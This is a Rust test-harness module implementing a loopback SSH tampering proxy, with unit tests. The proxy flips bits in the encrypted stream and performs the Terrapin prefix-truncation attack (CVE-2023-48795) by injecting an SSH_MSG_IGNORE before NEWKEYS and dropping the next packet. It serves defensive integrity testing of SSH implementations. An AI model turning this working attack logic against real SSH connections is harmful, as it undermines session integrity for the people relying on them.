//! A loopback TCP proxy that tampers with an SSH connection passing through it.
//!
//! [`Proxy`] listens on 127.0.0.1 and relays every connection to a server port, byte for byte,
//! except for one [`Tamper`]: flip one bit of the encrypted stream (the integrity tests, like
//! OpenSSH's regress/integrity.sh), or the Terrapin manipulation (inject an `SSH_MSG_IGNORE`
//! before `SSH_MSG_NEWKEYS`, drop the first packet after it).
//!
//! Offsets are counted from the first byte after `SSH_MSG_NEWKEYS` in the tampered direction:
//! each direction's relay parses the identification line and the unencrypted binary packets of
//! the initial key exchange (RFC 4253 §6, "uint32 packet_length, byte padding_length, `byte[n1]
//! payload`, ..."; no MAC while the "none" algorithms are in effect) until it has forwarded
//! NEWKEYS, and from then on counts bytes without looking at them. Offset 0 is therefore the
//! first byte of the first encrypted packet (its length field, encrypted or not).
//!
//! The proxy stops accepting and cuts every relayed connection when dropped.

use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;

/// SSH_MSG_IGNORE (RFC 4253 §11.2).
const MSG_IGNORE: u8 = 2;
/// SSH_MSG_NEWKEYS (RFC 4253 §7.3).
const MSG_NEWKEYS: u8 = 21;
/// The largest unencrypted packet the relay parses; anything longer is not a key exchange
/// packet, so the relay stops parsing and just forwards (RFC 4253 §6.1: 35000 bytes must be
/// supported; OpenSSH allows 256 KiB).
const MAX_PLAIN_PACKET: usize = 256 * 1024;
/// The longest identification line or pre-banner line the relay waits for (RFC 4253 §4.2:
/// 255 characters; generous).
const MAX_LINE: usize = 8 * 1024;

/// Which way bytes travel.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Direction {
    /// From the SSH client to the SSH server.
    ClientToServer,
    /// From the SSH server to the SSH client.
    ServerToClient,
}

/// What the proxy does to each connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tamper {
    /// Relay faithfully.
    Nothing,
    /// XOR one bit (`bit`, 0..=7) into the byte `offset` bytes after NEWKEYS in `direction`.
    FlipBit {
        /// The stream to corrupt.
        direction: Direction,
        /// Bytes after the end of the NEWKEYS packet.
        offset: u64,
        /// The bit of that byte to flip.
        bit: u8,
    },
    /// Terrapin (CVE-2023-48795): in `direction`, inject an unencrypted `SSH_MSG_IGNORE` just
    /// before NEWKEYS (the receiver's sequence number moves one ahead) and drop the first
    /// encrypted packet after it (so that, without strict kex, the numbers line up again and
    /// the receiver never learns that a packet went missing).
    Terrapin {
        /// The stream to manipulate.
        direction: Direction,
        /// How the proxy finds the end of the first encrypted packet: `Some(tag length)` for
        /// encrypt-then-MAC and GCM modes, whose `packet_length` is sent in the clear; `None`
        /// when the length is encrypted (chacha20-poly1305), in which case nothing is dropped
        /// and only the injection is done (which is what strict kex refuses in any case).
        clear_length_tag: Option<usize>,
    },
}

/// What the proxy did, over all connections so far.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Report {
    /// Connections accepted.
    pub connections: usize,
    /// Directions in which NEWKEYS went through.
    pub newkeys: usize,
    /// Bits flipped.
    pub flipped: usize,
    /// IGNORE packets injected.
    pub injected: usize,
    /// Packets dropped.
    pub dropped: usize,
}

/// A tampering proxy on 127.0.0.1 in front of `127.0.0.1:server_port`.
pub struct Proxy {
    /// The port clients connect to.
    pub port: u16,
    report: Arc<Mutex<Report>>,
    stop: Arc<AtomicBool>,
    streams: Arc<Mutex<Vec<TcpStream>>>,
    acceptor: Option<JoinHandle<()>>,
}

impl Proxy {
    /// Starts a proxy to the server at 127.0.0.1:`server_port` that applies `tamper` to every
    /// connection.
    pub fn start(server_port: u16, tamper: Tamper) -> io::Result<Proxy> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let report = Arc::new(Mutex::new(Report::default()));
        let stop = Arc::new(AtomicBool::new(false));
        let streams = Arc::new(Mutex::new(Vec::new()));
        let acceptor = {
            let (report, stop, streams) = (report.clone(), stop.clone(), streams.clone());
            std::thread::spawn(move || {
                for client in listener.incoming() {
                    if stop.load(Ordering::SeqCst) {
                        break;
                    }
                    let Ok(client) = client else { continue };
                    if let Err(e) = relay(client, server_port, tamper, &report, &streams) {
                        eprintln!("proxy: cannot relay a connection: {e}");
                    }
                }
            })
        };
        Ok(Proxy {
            port,
            report,
            stop,
            streams,
            acceptor: Some(acceptor),
        })
    }

    /// What the proxy has done so far.
    pub fn report(&self) -> Report {
        lock(&self.report).clone()
    }
}

impl Drop for Proxy {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        // Wakes the acceptor, which sees `stop` and returns.
        let _ = TcpStream::connect(("127.0.0.1", self.port));
        if let Some(acceptor) = self.acceptor.take() {
            let _ = acceptor.join();
        }
        for s in lock(&self.streams).iter() {
            let _ = s.shutdown(Shutdown::Both);
        }
    }
}

/// Locks `m`, ignoring poisoning (a relay thread that panicked has nothing half-written).
fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

/// Connects `client` to the server and starts one relay thread per direction.
fn relay(
    client: TcpStream,
    server_port: u16,
    tamper: Tamper,
    report: &Arc<Mutex<Report>>,
    streams: &Arc<Mutex<Vec<TcpStream>>>,
) -> io::Result<()> {
    let server = TcpStream::connect(("127.0.0.1", server_port))?;
    client.set_nodelay(true)?;
    server.set_nodelay(true)?;
    {
        let mut all = lock(streams);
        all.push(client.try_clone()?);
        all.push(server.try_clone()?);
    }
    lock(report).connections += 1;
    for (direction, from, to) in [
        (
            Direction::ClientToServer,
            client.try_clone()?,
            server.try_clone()?,
        ),
        (Direction::ServerToClient, server, client),
    ] {
        let mut stream = Stream::new(direction, tamper, report.clone());
        std::thread::spawn(move || stream.pump(from, to));
    }
    Ok(())
}

/// Where a direction's parser is.
enum Stage {
    /// Before the end of the identification line.
    Identification,
    /// Unencrypted binary packets, before NEWKEYS.
    Plain,
    /// After NEWKEYS: bytes are counted, not parsed (except to drop one packet).
    Encrypted,
}

/// One direction of one connection.
struct Stream {
    direction: Direction,
    tamper: Tamper,
    report: Arc<Mutex<Report>>,
    stage: Stage,
    /// Bytes received and not yet forwarded (a partial line or packet).
    pending: Vec<u8>,
    /// Bytes forwarded (or dropped) since NEWKEYS.
    after_newkeys: u64,
    /// Whether the Terrapin drop is still to be done.
    drop_pending: bool,
}

impl Stream {
    fn new(direction: Direction, tamper: Tamper, report: Arc<Mutex<Report>>) -> Stream {
        let drop_pending = matches!(
            tamper,
            Tamper::Terrapin { direction: d, clear_length_tag: Some(_) } if d == direction
        );
        Stream {
            direction,
            tamper,
            report,
            stage: Stage::Identification,
            pending: Vec::new(),
            after_newkeys: 0,
            drop_pending,
        }
    }

    /// Relays `from` to `to` until either side closes, then closes both halves it used.
    fn pump(&mut self, mut from: TcpStream, mut to: TcpStream) {
        let mut chunk = vec![0u8; 64 * 1024];
        loop {
            let n = match from.read(&mut chunk) {
                Ok(0) | Err(_) => break,
                Ok(n) => n,
            };
            self.pending
                .extend_from_slice(chunk.get(..n).unwrap_or_default());
            match self.process() {
                Ok(out) if to.write_all(&out).is_ok() => {}
                _ => break,
            }
        }
        let _ = to.shutdown(Shutdown::Write);
        let _ = from.shutdown(Shutdown::Read);
    }

    /// Takes what can be forwarded out of `pending`, tampered with.
    fn process(&mut self) -> io::Result<Vec<u8>> {
        let mut out = Vec::new();
        loop {
            let progressed = match self.stage {
                Stage::Identification => self.identification(&mut out),
                Stage::Plain => self.plain_packet(&mut out),
                Stage::Encrypted => self.encrypted(&mut out),
            };
            if !progressed {
                return Ok(out);
            }
        }
    }

    /// Forwards lines up to and including the one that starts with "SSH-" (RFC 4253 §4.2:
    /// the server "MAY send other lines of data before sending the version string").
    fn identification(&mut self, out: &mut Vec<u8>) -> bool {
        let Some(end) = self.pending.iter().position(|&b| b == b'\n') else {
            if self.pending.len() > MAX_LINE {
                // Not SSH as we know it: stop parsing, just relay.
                self.stage = Stage::Encrypted;
                return true;
            }
            return false;
        };
        let line: Vec<u8> = self.pending.drain(..=end).collect();
        if line.starts_with(b"SSH-") {
            self.stage = Stage::Plain;
        }
        out.extend_from_slice(&line);
        true
    }

    /// Forwards one whole unencrypted packet, injecting the Terrapin IGNORE before NEWKEYS.
    fn plain_packet(&mut self, out: &mut Vec<u8>) -> bool {
        let Some(len) = self
            .pending
            .first_chunk::<4>()
            .map(|b| u32::from_be_bytes(*b))
        else {
            return false;
        };
        let len = len as usize;
        if len > MAX_PLAIN_PACKET {
            self.stage = Stage::Encrypted;
            return true;
        }
        if self.pending.len() < 4 + len {
            return false;
        }
        let packet: Vec<u8> = self.pending.drain(..4 + len).collect();
        let number = packet.get(5).copied();
        if number == Some(MSG_NEWKEYS) {
            if matches!(self.tamper, Tamper::Terrapin { direction, .. } if direction == self.direction)
            {
                out.extend_from_slice(&plain_ignore());
                lock(&self.report).injected += 1;
            }
            lock(&self.report).newkeys += 1;
            self.stage = Stage::Encrypted;
        }
        out.extend_from_slice(&packet);
        true
    }

    /// Forwards everything pending after NEWKEYS, flipping the chosen bit or dropping the first
    /// packet.
    fn encrypted(&mut self, out: &mut Vec<u8>) -> bool {
        if self.drop_pending {
            let Tamper::Terrapin {
                clear_length_tag: Some(tag),
                ..
            } = self.tamper
            else {
                self.drop_pending = false;
                return true;
            };
            let Some(len) = self
                .pending
                .first_chunk::<4>()
                .map(|b| u32::from_be_bytes(*b))
            else {
                return false;
            };
            let total = 4 + len as usize + tag;
            if total > MAX_PLAIN_PACKET + 4 + tag {
                // Not a length in the clear after all: give up dropping, just relay.
                self.drop_pending = false;
                return true;
            }
            if self.pending.len() < total {
                return false;
            }
            self.pending.drain(..total);
            self.after_newkeys += total as u64;
            self.drop_pending = false;
            lock(&self.report).dropped += 1;
            return true;
        }
        if self.pending.is_empty() {
            return false;
        }
        if let Tamper::FlipBit {
            direction,
            offset,
            bit,
        } = self.tamper
            && direction == self.direction
            && offset >= self.after_newkeys
            && let Some(byte) = usize::try_from(offset - self.after_newkeys)
                .ok()
                .and_then(|i| self.pending.get_mut(i))
        {
            *byte ^= 1 << (bit & 7);
            lock(&self.report).flipped += 1;
        }
        self.after_newkeys += self.pending.len() as u64;
        out.append(&mut self.pending);
        false
    }
}

/// An unencrypted SSH_MSG_IGNORE packet with an empty string: packet_length 12, padding_length
/// 6 (RFC 4253 §6: at least 4 bytes of padding, and the whole a multiple of 8).
fn plain_ignore() -> [u8; 16] {
    // Length 12, padding length 6, the message number, the empty string's length, padding.
    [0, 0, 0, 12, 6, MSG_IGNORE, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A plain packet holding `payload`, padded as RFC 4253 §6 says.
    fn packet(payload: &[u8]) -> Vec<u8> {
        let mut pad = 8 - (4 + 1 + payload.len()) % 8;
        if pad < 4 {
            pad += 8;
        }
        let len = 1 + payload.len() + pad;
        let mut p = (len as u32).to_be_bytes().to_vec();
        p.push(pad as u8);
        p.extend_from_slice(payload);
        p.extend(std::iter::repeat_n(0, pad));
        p
    }

    fn run(direction: Direction, tamper: Tamper, input: &[&[u8]]) -> (Vec<u8>, Report) {
        let report = Arc::new(Mutex::new(Report::default()));
        let mut s = Stream::new(direction, tamper, report.clone());
        let mut out = Vec::new();
        for chunk in input {
            s.pending.extend_from_slice(chunk);
            out.extend(s.process().unwrap());
        }
        let r = report.lock().unwrap().clone();
        (out, r)
    }

    #[test]
    fn the_ignore_packet_is_well_formed() {
        let p = plain_ignore();
        assert_eq!(p.to_vec(), packet(&[MSG_IGNORE, 0, 0, 0, 0]));
    }

    #[test]
    fn flips_the_bit_at_the_offset_after_newkeys_across_reads() {
        let mut wire = b"SSH-2.0-x\r\n".to_vec();
        wire.extend(packet(&[20, 1, 2, 3]));
        wire.extend(packet(&[MSG_NEWKEYS]));
        let head = wire.len();
        wire.extend(0u8..100);
        let tamper = Tamper::FlipBit {
            direction: Direction::ServerToClient,
            offset: 50,
            bit: 3,
        };
        // Fed in odd pieces so that lines, packets and the offset straddle reads.
        let pieces: Vec<&[u8]> = wire.chunks(7).collect();
        let (out, r) = run(Direction::ServerToClient, tamper, &pieces);
        let mut want = wire.clone();
        want[head + 50] ^= 8;
        assert_eq!(out, want);
        assert_eq!((r.newkeys, r.flipped), (1, 1));
        // The other direction is left alone.
        let (out, r) = run(Direction::ClientToServer, tamper, &pieces);
        assert_eq!(out, wire);
        assert_eq!(r.flipped, 0);
    }

    #[test]
    fn terrapin_injects_before_newkeys_and_drops_the_first_packet_after() {
        let mut wire = b"SSH-2.0-x\r\n".to_vec();
        wire.extend(packet(&[20, 9]));
        let newkeys = packet(&[MSG_NEWKEYS]);
        let mut encrypted = 20u32.to_be_bytes().to_vec();
        encrypted.extend([0xAA; 20 + 16]);
        let rest = [0xBB; 40];
        let mut input = wire.clone();
        input.extend(&newkeys);
        input.extend(&encrypted);
        input.extend(rest);
        let tamper = Tamper::Terrapin {
            direction: Direction::ServerToClient,
            clear_length_tag: Some(16),
        };
        let pieces: Vec<&[u8]> = input.chunks(5).collect();
        let (out, r) = run(Direction::ServerToClient, tamper, &pieces);
        let mut want = wire;
        want.extend(plain_ignore());
        want.extend(&newkeys);
        want.extend(rest);
        assert_eq!(out, want);
        assert_eq!((r.injected, r.dropped), (1, 1));
    }

    #[test]
    fn relays_a_real_connection_and_stops_when_dropped() {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = server.local_addr().unwrap().port();
        let proxy = Proxy::start(port, Tamper::Nothing).unwrap();
        let mut c = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
        let (mut s, _) = server.accept().unwrap();
        c.write_all(b"SSH-2.0-c\r\nhello").unwrap();
        let mut got = [0u8; 16];
        s.read_exact(&mut got).unwrap();
        assert_eq!(&got, b"SSH-2.0-c\r\nhello");
        s.write_all(b"SSH-2.0-s\r\n").unwrap();
        let mut got = [0u8; 11];
        c.read_exact(&mut got).unwrap();
        assert_eq!(&got, b"SSH-2.0-s\r\n");
        assert_eq!(proxy.report().connections, 1);
        let proxy_port = proxy.port;
        drop(proxy);
        // The relayed connection is cut: the client reads end of stream.
        let mut rest = Vec::new();
        assert_eq!(c.read_to_end(&mut rest).unwrap_or(0), 0);
        // And nobody accepts at the proxy's port any more.
        assert!(TcpStream::connect(("127.0.0.1", proxy_port)).is_err());
    }
}
